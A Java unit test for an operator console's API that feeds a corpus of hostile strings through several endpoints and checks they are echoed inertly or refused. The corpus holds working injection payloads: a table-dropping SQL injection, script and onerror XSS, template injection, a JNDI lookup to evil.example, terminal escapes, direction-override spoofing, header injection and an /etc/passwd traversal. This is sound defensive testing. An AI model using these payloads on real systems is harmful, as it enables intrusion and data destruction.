package io.amends.console;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.amends.core.event.UnsafeCharacters;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Texts that would like to be something else come back as the same text, in every answer that has them. */
class HostileTextTest {
    private static final ApiRequest.Caller LOCAL =
            new ApiRequest.Caller("ann", "127.0.0.1", false, "localhost:8080", null, null);

    private final ServiceWithFailures service = new ServiceWithFailures();
    private final OperatorApi api = new OperatorApi(service.operations, service.operatorStore, new Access(false), true);

    @AfterEach
    void close() {
        api.close();
        service.close();
    }

    static Stream<String> corpus() {
        return Stream.of(
                "'; drop table amends.failed_execution; --",
                "\" or \"\"=\"",
                "<script>alert(1)</script><img src=x onerror=alert(1)>",
                "{{constructor.constructor('alert(1)')()}}",
                "${jndi:ldap://evil.example/a}",
                "\u001b[2J\u001b]0;owned\u0007",
                "\u202egnp.exe\u2066\u2069",
                "\u009b2J\u0085",
                "a\u2028b\u2029c",
                "%00%0d%0aSet-Cookie: a=b",
                "../../../etc/passwd",
                "\ud83d\udca9 – größer",
                "x".repeat(200));
    }

    /** An event's key has no control characters in the first place. */
    static Stream<String> keys() {
        return corpus().filter(Texts::isOfEvent);
    }

    @ParameterizedTest
    @MethodSource("keys")
    void aKeyStaysAText(String key) {
        service.fail("f1", key);
        assertThat(answer("/failures", Map.of()).get("items").get(0).get("key").asString())
                .isEqualTo(key);
        assertThat(answer("/failures/f1", Map.of()).get("key").asString()).isEqualTo(key);
        assertThat(answer("/lanes", Map.of()).get("items").get(0).get("key").asString())
                .isEqualTo(key);
        assertThat(answer("/failures", Map.of("key", List.of(key))).get("items"))
                .hasSize(1);
        assertThat(answer("/failures", Map.of("text", List.of(key))).get("items"))
                .hasSize(1);
        assertThat(answer("/lanes/points/" + key, Map.of()).get("key").asString())
                .isEqualTo(key);
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void aReasonStaysATextOrIsRefused(String reason) {
        service.fail("f1", "a");
        byte[] body = JsonMapper.shared().writeValueAsBytes(Map.of("reason", reason));
        ApiResponse response =
                api.handle(new ApiRequest("POST", "/failures/f1/skip", Map.of(), "application/json", body, LOCAL));
        assertInert(response);
        assertThat(response.status()).isEqualTo(Texts.isPlain(reason) ? 200 : 400);
        JsonNode lines = answer("/audit", Map.of()).get("items");
        if (Texts.isPlain(reason)) {
            assertThat(lines.get(0).get("reason").asString()).isEqualTo(reason);
            assertThat(answer("/failures/f1/history", Map.of())
                            .get("items")
                            .get(1)
                            .get("reason")
                            .asString())
                    .isEqualTo(reason);
        } else {
            assertThat(lines).as("nothing was done").isEmpty();
        }
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void whatIsNotFoundIsShownInertly(String text) {
        for (String path : List.of("/failures/", "/groups/", "/batches/", "/processors/", "/lanes/points/", "/")) {
            ApiResponse response = api.handle(new ApiRequest("GET", path + text, Map.of(), null, new byte[0], LOCAL));
            assertThat(response.status()).as(path).isIn(400, 404);
            assertInert(response);
        }
        ApiResponse response =
                api.handle(new ApiRequest("GET", "/failures", Map.of(text, List.of(text)), null, new byte[0], LOCAL));
        assertThat(response.status()).isEqualTo(400);
        assertInert(response);
    }

    private JsonNode answer(String path, Map<String, List<String>> query) {
        ApiResponse response = api.handle(new ApiRequest("GET", path, query, null, new byte[0], LOCAL));
        assertThat(response.status()).as(new String(response.body(), UTF_8)).isEqualTo(200);
        assertInert(response);
        return JsonMapper.shared().readTree(response.body());
    }

    private static void assertInert(ApiResponse response) {
        assertThat(response.contentType()).isIn("application/json", "application/problem+json");
        assertThat(response.headers())
                .containsEntry("X-Content-Type-Options", "nosniff")
                .containsEntry("Content-Security-Policy", "default-src 'none'; frame-ancestors 'none'");
        assertThat(new String(response.body(), UTF_8)
                        .codePoints()
                        .filter(UnsafeCharacters::contains)
                        .toArray())
                .as("control characters, and marks that turn the direction")
                .isEmpty();
        assertThat(JsonMapper.shared().readTree(response.body()).isObject()).isTrue();
    }
}
